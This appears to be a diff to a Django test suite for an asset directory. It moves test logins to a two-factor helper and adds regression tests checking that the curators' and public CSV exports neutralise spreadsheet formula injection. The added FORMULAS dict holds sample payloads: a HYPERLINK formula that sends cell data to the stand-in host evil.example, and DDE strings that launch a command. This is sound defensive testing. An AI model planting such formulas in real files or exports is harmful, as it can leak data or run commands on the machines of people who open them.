@@ -9,7 +9,7 @@ import pytest
 from django.contrib.auth.models import Group
 from django.core.management import CommandError, call_command
 
-from accounts.tests.factories import OrganisationFactory
+from accounts.tests.factories import MembershipFactory, OrganisationFactory, VerifiedUserFactory
 from assets.models import AccessModel, Asset
 from assets.opendata import COLUMNS
 from assets.tests.factories import AssetFactory
@@ -293,15 +293,15 @@ def test_a_new_asset_needs_its_required_values_even_when_the_file_has_an_id_colu
 
 def curator_export(client):
     """The curators' export from the admin (every status, with the enquiry address)."""
-    from accounts.tests.factories import UserFactory, with_authenticator
+    from accounts.tests.factories import UserFactory, sign_in_with_two_factor
 
     curator = UserFactory(is_staff=True)
     curator.groups.add(Group.objects.get(name="Curators"))
-    client.force_login(with_authenticator(curator))
+    sign_in_with_two_factor(client, curator)
     response = client.get("/admin/assets/asset/export.csv")
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    return response.content.decode()
+    return b"".join(response.streaming_content).decode()
 
 
 def test_the_curators_export_round_trips_without_changing_any_field(client, mif, tmp_path):
@@ -352,9 +352,9 @@ def test_importing_the_public_export_over_the_directory_keeps_the_enquiry_addres
 
 
 def test_the_curators_export_is_for_curators_only(client, mif):
-    from accounts.tests.factories import UserFactory, with_authenticator
+    from accounts.tests.factories import UserFactory, sign_in_with_two_factor
 
-    client.force_login(with_authenticator(UserFactory(is_staff=True)))
+    sign_in_with_two_factor(client, UserFactory(is_staff=True))
 
     assert client.get("/admin/assets/asset/export.csv").status_code == 403
 
@@ -385,3 +385,50 @@ def test_dry_run_lists_each_change_and_saves_nothing(mif, tmp_path):
     assert lines[-1].endswith("would be 1 created, 1 updated, 1 unchanged; nothing was saved.")
     assert snapshot(mif) == before
     assert not Asset.objects.filter(name="Brand new lab").exists()
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
+    "summary": "+cmd|' /C calc'!A0",
+    "manufacturer": "-2+3+cmd|' /C calc'!A0",
+    "model_number": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "eligibility": "\t=1+1",
+    "address": "\r=1+1",
+}
+
+
+def test_csv_export_neutralises_formulas_planted_in_any_field(client, mif):
+    """The probe: a host organisation's owner renamed the organisation to a formula, and
+    /assets/export.csv passed it (and =, +, -, @, tab and CR-led values) verbatim."""
+    owner = VerifiedUserFactory()
+    MembershipFactory(user=owner, organisation=mif.host)
+    client.force_login(owner)
+    renamed = client.post(
+        f"/organisations/{mif.host.slug}/edit/",
+        {"name": FORMULAS["name"], "kind": "university", "visibility": "public"},
+    )
+    assert renamed.status_code == 302, renamed.content.decode()
+    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
+
+    text, rows = read_csv(client)
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith("-") and cell != "-2.964500"]
+    row = next(r for r in rows if r["ID"] == "mif-ms")
+    assert row["Organisation"] == "'" + FORMULAS["name"]
+    assert row["Name"] == "'" + FORMULAS["name"]
+    assert row["Model"] == "'" + FORMULAS["model_number"]
+    assert row["Longitude"] == "-2.964500"  # a number stays a number
+
+
+def test_neutralised_cells_import_as_they_were_written(client, mif, tmp_path):
+    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
+    path = tmp_path / "assets.csv"
+    path.write_text(read_csv(client)[0])
+    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()
+
+    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())
+
+    asset = Asset.objects.get(slug="mif-ms")
+    assert asset.name == FORMULAS["name"] and asset.model_number == FORMULAS["model_number"]
